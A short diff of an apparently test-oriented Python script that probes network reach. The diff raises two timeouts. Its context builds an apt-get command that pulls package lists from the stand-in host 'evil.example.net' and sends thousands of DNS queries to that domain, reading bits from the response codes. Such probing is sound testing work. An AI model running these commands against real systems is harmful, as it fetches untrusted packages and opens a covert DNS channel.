@@ -13,7 +13,7 @@ RAW = {"host": "raw.example.com", "ports": [80, 443]}
 TCP = {"host": "tcp.example.com", "ports": [7777], "mode": "tcp"}
 NAME = "evil.example.net"
 SPINS_S = 5  # of processor time; npm needs 0.3
-GIVES_UP_S = 20  # generous: a client that retries needs 7 s (apt), 8 s (pip), 11 s (cargo), 71 s (npm) on an idle machine
+GIVES_UP_S = 50  # generous: a client that retries needs 7 s (apt), 8 s (pip), 11 s (cargo), 71 s (npm) on an idle machine
 APT = ("d=$PWD/apt; mkdir -p $d/lists/partial $d/cache/archives/partial; : > $d/status; echo 'deb %s://evil.example.net/ x main' > $d/list; "
        "apt-get -o Dir::State=$d -o Dir::State::status=$d/status -o Dir::Cache=$d/cache -o Dir::Etc::SourceList=$d/list "
        "-o Dir::Etc::SourceParts=/dev/null -o Dir::Etc::Parts=/dev/null -o Dir::Etc::Main=/dev/null -o Debug::NoLocking=1 "
@@ -108,7 +108,7 @@ def ask(name):
         except TimeoutError:
             pass
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(2)
+s.settimeout(20)
 s.connect(("198.18.0.1", 53))
 first = ask("raw.example.com")[-4:]
 codes = [ask("n%d.evil.example.net" % i)[3] & 15 for i in range(4200)]
